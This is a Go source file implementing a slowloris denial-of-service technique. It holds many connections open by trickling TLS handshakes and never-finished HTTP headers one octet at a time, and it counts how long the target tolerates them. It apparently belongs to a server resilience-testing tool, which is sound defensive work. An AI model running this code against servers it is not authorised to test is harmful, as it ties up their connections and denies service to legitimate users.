package main

import (
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"sync"
	"time"
)

// slowLoris holds connections open by sending an octet at a time, each well within
// whatever time-out a single read has. Half of them never finish the handshake,
// the others never finish a request's header.
type slowLoris struct {
	count    int
	interval time.Duration // between octets
	dialer   *dialer
	chooser  *chooser
	host     string // of the request that is never finished

	mu      sync.Mutex
	opened  int
	closed  int           // by the other side
	longest time.Duration // that a connection lived
	failed  int           // that could not even be opened
}

// run keeps count connections trickling until ctx is done. What the other side
// closes is replaced.
func (s *slowLoris) run(ctx context.Context) {
	var running sync.WaitGroup
	for n := range s.count {
		running.Go(func() {
			for ctx.Err() == nil {
				if !s.one(ctx, n%2 == 0) && !pause(ctx, s.interval) {
					return
				}
			}
		})
	}
	running.Wait()
}

// one opens a connection and trickles into it until one side has enough. It
// reports whether there was a connection.
func (s *slowLoris) one(ctx context.Context, inHandshake bool) bool {
	i, err := s.chooser.take()
	if err != nil {
		return false
	}
	defer s.chooser.release(i)
	began := time.Now()
	var c *conn
	if inHandshake {
		var raw net.Conn
		if raw, err = (&net.Dialer{}).DialContext(ctx, "tcp", s.dialer.address); err == nil {
			c = &conn{Conn: raw}
		}
	} else {
		c, err = s.dialer.dial(i, began.Add(10*time.Second))
	}
	if err != nil {
		s.mu.Lock()
		s.failed++
		s.mu.Unlock()
		return false
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.SetDeadline(time.Now()) })() // wakes up who waits
	if inHandshake {
		trickle := &slowConn{Conn: c.Conn, ctx: ctx, interval: s.interval}
		err = tls.Client(trickle, &tls.Config{ServerName: s.dialer.server, InsecureSkipVerify: true}).HandshakeContext(ctx)
	} else {
		err = s.header(ctx, c)
	}
	lived := time.Since(began)
	s.mu.Lock()
	defer s.mu.Unlock()
	s.opened++
	s.longest = max(s.longest, lived)
	if err != nil && ctx.Err() == nil {
		s.closed++
	}
	return true
}

// header sends a header that never ends. Reading is what notices the end of the
// connection; an answer counts as one, for whoever sends it has decided.
func (s *slowLoris) header(ctx context.Context, c *conn) error {
	ended := make(chan error, 1)
	go func() {
		_, err := c.Read(make([]byte, 1))
		if err == nil {
			err = fmt.Errorf("answered before the request was whole")
		}
		ended <- err
	}()
	text := []byte("GET / HTTP/1.1\r\nHost: " + s.host + "\r\nX-Slow: ")
	tick := time.NewTicker(s.interval)
	defer tick.Stop()
	for n := 0; ; n++ {
		octet := byte('x')
		if n < len(text) {
			octet = text[n]
		}
		if _, err := c.Write([]byte{octet}); err != nil {
			return err
		}
		select {
		case err := <-ended:
			return err
		case <-ctx.Done():
			return ctx.Err()
		case <-tick.C:
		}
	}
}

// slowConn writes an octet at a time. Whether the other side has had enough shows
// with the next one.
type slowConn struct {
	net.Conn
	ctx      context.Context
	interval time.Duration
}

func (c *slowConn) Write(p []byte) (int, error) {
	for n := range p {
		if _, err := c.Conn.Write(p[n : n+1]); err != nil {
			return n, err
		}
		if !pause(c.ctx, c.interval) {
			return n, c.ctx.Err()
		}
	}
	return len(p), nil
}

// pause waits for d and reports whether ctx lasted that long.
func pause(ctx context.Context, d time.Duration) bool {
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-timer.C:
		return true
	case <-ctx.Done():
		return false
	}
}
